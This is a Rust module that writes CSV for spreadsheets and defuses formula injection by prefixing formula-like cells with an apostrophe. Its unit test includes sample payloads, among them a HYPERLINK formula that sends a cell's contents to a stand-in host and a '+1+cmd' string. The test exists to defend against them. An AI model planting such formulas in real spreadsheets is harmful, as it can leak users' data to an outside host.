//! CSV for spreadsheets: rows in, text out, with a header row first.
//!
//! Model and client names are other people's text, and a spreadsheet runs a cell that begins like a formula
//! (<https://owasp.org/www-community/attacks/CSV_Injection>). Such a cell gets an apostrophe in front, which spreadsheets take for
//! "this is text"; numbers stay as they are. Programs had better read JSON, where nothing is added.

/// A sheet that is being written.
pub(super) struct Sheet(csv::Writer<Vec<u8>>);

impl Sheet {
    /// One that has its header.
    pub(super) fn new<'a>(header: impl IntoIterator<Item = &'a str>) -> anyhow::Result<Self> {
        let mut sheet = Self(csv::Writer::from_writer(Vec::new()));
        sheet.0.write_record(header)?;
        Ok(sheet)
    }

    /// Adds a row, which must have as many cells as the header.
    pub(super) fn row<T: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = T>) -> anyhow::Result<()> {
        for cell in cells {
            let cell = cell.as_ref();
            match is_formula(cell) {
                true => self.0.write_field(format!("'{cell}"))?,
                false => self.0.write_field(cell)?,
            }
        }
        self.0.write_record(None::<&[u8]>)?;
        Ok(())
    }

    /// The whole text.
    pub(super) fn finish(self) -> anyhow::Result<String> {
        Ok(String::from_utf8(self.0.into_inner()?)?)
    }
}

fn is_formula(cell: &str) -> bool {
    // Full-width forms are taken for the plain ones by some.
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']) && cell.parse::<f64>().is_err()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay() {
        let mut sheet = Sheet::new(["model", "cost_usd"]).expect("written");
        for (model, cost) in [
            ("=HYPERLINK(\"http://example.com/?\"&B1)", "0.1"),
            ("@cf/meta/llama", "-0.5"),
            ("+1+cmd", "1e-9"),
            ("\t=1", ""),
            ("gpt-4o", "-"),
        ] {
            sheet.row([model, cost]).expect("written");
        }
        assert_eq!(
            sheet.finish().expect("text"),
            "model,cost_usd\n\"'=HYPERLINK(\"\"http://example.com/?\"\"&B1)\",0.1\n'@cf/meta/llama,-0.5\n'+1+cmd,1e-9\n\
             '\t=1,\ngpt-4o,'-\n"
        );
    }
}
